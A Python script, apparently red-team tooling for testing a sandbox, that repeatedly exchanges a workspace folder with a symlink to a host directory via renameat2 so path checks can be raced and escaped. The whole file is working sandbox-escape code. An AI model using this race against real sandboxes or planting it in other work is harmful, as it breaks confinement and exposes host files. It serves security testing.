"""The red-team's swapper: exchange a workspace folder with a symlink to a host folder, forever.

Run inside the sandbox (or, for the process backend, on the host) from the workspace:
`python3 race_swapper.py HOST_DIR` makes `l -> HOST_DIR` beside the folder `d`, then swaps the
two names with renameat2(RENAME_EXCHANGE) in a tight loop, so `d` is a real folder one moment
and a link out of the workspace the next. It stops when the file `stop-swapping` appears, and
prints how many swaps it made (and writes it to `swaps.txt`, for a detached run). `swapping` is
created once the loop runs.
"""

from __future__ import annotations

import ctypes
import os
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2
SYS_RENAMEAT2 = {"x86_64": 316, "aarch64": 276}


def exchange_function():
    libc = ctypes.CDLL(None, use_errno=True)
    if hasattr(libc, "renameat2"):
        return lambda a, b: libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
    number = SYS_RENAMEAT2[os.uname().machine]
    return lambda a, b: libc.syscall(number, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)


def main(host_dir: str) -> None:
    exchange = exchange_function()
    if not os.path.lexists("l"):
        os.symlink(host_dir, "l")
    swaps = 0
    open("swapping", "w").close()
    while not os.path.exists("stop-swapping"):
        for _ in range(200):
            if exchange(b"d", b"l") != 0:
                raise OSError(ctypes.get_errno(), "renameat2 failed")
            swaps += 1
    with open(".swaps.txt.tmp", "w") as report:  # whole or not at all: readers wait for it
        report.write(f"swaps={swaps}\n")
    os.replace(".swaps.txt.tmp", "swaps.txt")
    print(f"swaps={swaps}", flush=True)


if __name__ == "__main__":
    main(sys.argv[1])
